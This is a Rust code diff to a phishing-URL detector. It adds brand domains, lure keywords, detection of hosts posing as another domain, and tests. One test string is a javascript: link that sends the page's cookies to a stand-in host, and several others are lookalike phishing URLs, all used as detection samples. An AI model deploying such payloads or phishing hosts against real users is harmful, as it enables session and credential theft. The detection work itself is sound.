@@ -77,6 +77,14 @@ const WELL_KNOWN: &[&str] = &[
     "ameli.fr",
     "sparkasse.de",
     "steamcommunity.com",
+    "discord.com",
+    "roblox.com",
+    "ledger.com",
+    "metamask.io",
+    "trezor.io",
+    "epicgames.com",
+    "spotify.com",
+    "ebay.com",
 ];
 
 /// Brand names that are also everyday words: they never make a host look like an impersonation.
@@ -119,6 +127,16 @@ const PHISH_WORDS: &[&str] = &[
     "service",
     "password",
     "reset",
+    "track",
+    "redelivery",
+    "gift",
+    "giveaway",
+    "prize",
+    "reward",
+    "claim",
+    "airdrop",
+    "free",
+    "download",
 ];
 
 /// TLDs that, as an inner label (`paypal.com.example.info`), make a host pose as another domain.
@@ -182,10 +200,19 @@ fn ascii_impersonation(host: &str, brands: &HashMap<String, Vec<String>>) -> Opt
         .flat_map(|l| l.split('-'))
         .filter(|t| !t.is_empty())
         .collect();
-    let posing = labels.len() >= 4
+    // `paypal.com.verify.info`, or `usps.com-redelivery.xyz`: a label that is a TLD, or starts with one and
+    // a hyphen, right after another label, so the host reads as a different domain up to that point.
+    let posing = (labels.len() >= 4
         && labels[1..labels.len() - 2]
             .iter()
-            .any(|l| POSING_TLDS.contains(l));
+            .any(|l| POSING_TLDS.contains(l)))
+        || labels.len() >= 3
+            && labels[..labels.len() - 1].windows(2).any(|pair| {
+                pair[0] != "www"
+                    && pair[1]
+                        .split_once('-')
+                        .is_some_and(|(tld, rest)| POSING_TLDS.contains(&tld) && !rest.is_empty())
+            });
     let mut score: Option<f32> = posing.then_some(0.8);
     for t in &tokens {
         let (domains, spelled_alike) = match brands.get(*t) {
@@ -344,6 +371,11 @@ impl UrlDetector {
                     }
                     ("url.data_uri", if active { 0.9 } else { 0.6 })
                 } else {
+                    // `javascript:void(0)` is the usual no-op link target of HTML menus, not code.
+                    let body = lower.split_once(':').map_or("", |(_, b)| b.trim_end_matches(';'));
+                    if matches!(body, "void(0)" | "void 0" | "void(null)") {
+                        continue;
+                    }
                     ("url.javascript_uri", 0.9)
                 };
                 out.push(Finding::new(Category::Url, detector, score, m.start(), m.end()));
@@ -582,6 +614,13 @@ mod tests {
             default_flags("[c](data:text/html;base64,PHNjcmlwdD4=)"),
             ["url.data_uri"]
         );
+        // The no-op link target of HTML menus is not code; anything after it is.
+        assert!(default_flags("<a href=\"javascript:void(0)\" onclick=\"toggle()\">Menu</a>").is_empty());
+        assert!(default_flags("<a href=\"javascript:void(0);\">x</a>").is_empty());
+        assert_eq!(
+            default_flags("<a href=\"javascript:void(0);fetch('//x.example/?'+document.cookie)\">x</a>"),
+            ["url.javascript_uri"]
+        );
     }
 
     #[test]
@@ -595,6 +634,9 @@ mod tests {
             "https://www.sparkasse.de.kundenverifizierung.info/login",
             "https://dhl-paket-zustellung.info/track",
             "https://github-login-verify.com/session",
+            "https://usps.com-redelivery-track.xyz/a8Kd",
+            "https://paypal.com-resolution-center.info/case",
+            "https://discord-gift-claim.example/nitro",
         ] {
             assert_eq!(default_flags(t), ["url.lookalike"], "{t}");
         }
@@ -607,6 +649,8 @@ mod tests {
             "https://office-supplies.com/account",
             "https://apple-pie-recipes.com/support",
             "https://my-github-notes.dev/",
+            "https://www.com-tech.example/contact",
+            "https://support.discord.com/hc/en-us",
         ] {
             assert!(default_flags(t).is_empty(), "{t}: {:?}", default_flags(t));
         }
